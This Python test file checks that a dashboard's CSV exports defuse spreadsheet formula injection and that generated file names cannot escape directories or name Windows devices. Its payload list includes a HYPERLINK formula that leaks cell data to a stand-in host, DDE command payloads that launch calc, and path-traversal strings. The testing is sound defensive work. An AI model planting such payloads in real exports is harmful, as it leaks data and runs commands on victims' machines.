"""Exports: hostile job and channel names from the fake never become spreadsheet formulas; file names are safe."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from pathlib import Path

import polars as pl
from hypothesis import given, settings
from hypothesis import strategies as st

from dashboard.demo import FakePersonio
from dashboard.exports.csv import FORMULA_PREFIXES, csv_bytes, export_all, safe_filename
from metrics.filters import Filters
from tests.hardening.conftest import CLIENT_ID, SECRET, VClock, sync

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]


def hostile_company(company):
    """The demo company with job names and channel names an attacker chose (e.g. via a job board)."""
    jobs = company.jobs.with_columns(
        pl.Series("job_name", [HOSTILE[i % len(HOSTILE)] + f" #{i}" for i in range(company.jobs.height)]))
    names = [HOSTILE[i % len(HOSTILE)] for i in range(company.channels.height)]
    channels = company.channels.with_columns(pl.Series("channel_name", names))
    lookup = dict(zip(company.channels["channel_id"], names, strict=True))
    apps = company.applications.with_columns(
        pl.col("channel_id").replace_strict(lookup, default=None).fill_null(pl.col("channel_name"))
        .alias("channel_name"))
    return replace(company, jobs=jobs, channels=channels, applications=apps)


def risky_cells(path: Path) -> list[str]:
    text = path.read_bytes().decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row
            if cell.startswith(FORMULA_PREFIXES)]


def test_hostile_job_and_channel_names_are_neutralised_in_every_exported_csv(company, tmp_path):
    vclock = VClock()
    fake = FakePersonio(hostile_company(company), client_id=CLIENT_ID, client_secret=SECRET, clock=vclock.now)
    from dashboard.store import Store

    store = Store(tmp_path / "s")
    sync(fake, vclock, store, full=True)
    tables = store.load_tables()
    assert tables.jobs["job_name"].str.starts_with("=").any()  # the hostile names arrived
    assert tables.applications["channel_name"].str.starts_with("+").any()
    written = export_all(tables, tmp_path / "out", Filters())
    csvs = [p for p in written if p.suffix == ".csv"]
    assert len(csvs) > 5
    seen = 0
    for path in csvs:
        assert risky_cells(path) == [], path
        seen += path.read_bytes().count(b"'=HYPERLINK") + path.read_bytes().count(b"'+cmd")
    assert seen > 0  # the names are there, defused with a leading apostrophe
    store.close()


def test_drill_down_and_table_downloads_use_the_same_neutralisation():
    df = pl.DataFrame({"job_name": HOSTILE, "n": list(range(len(HOSTILE))), "@header": ["x"] * len(HOSTILE)})
    text = csv_bytes(df).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == ["job_name", "n", "'@header"]
    assert [r[0] for r in rows[1:]] == ["'" + h for h in HOSTILE]
    assert [r[1] for r in rows[1:]] == [str(i) for i in range(len(HOSTILE))]  # numbers untouched


@settings(max_examples=300, deadline=None, derandomize=True, database=None)
@given(st.text(min_size=0, max_size=200))
def test_safe_filename_never_escapes_or_names_a_device(name):
    out = safe_filename(name)
    assert out and len(out) <= 120
    assert not set(out) & set('/\\:*?"<>|\x00')
    assert not any(ord(c) < 32 or ord(c) == 127 for c in out)
    assert out not in (".", "..") and not out.startswith(".")
    assert out.split(".")[0].upper() not in {"CON", "PRN", "AUX", "NUL", *(f"COM{i}" for i in range(1, 10)),
                                            *(f"LPT{i}" for i in range(1, 10))}


def test_hostile_names_make_safe_file_names():
    for name in HOSTILE + ["../../etc/passwd", "..\\..\\boot.ini", "CON", "nul.txt", "a/b", ""]:
        out = safe_filename(name)
        assert "/" not in out and "\\" not in out and not out.startswith(".") and out
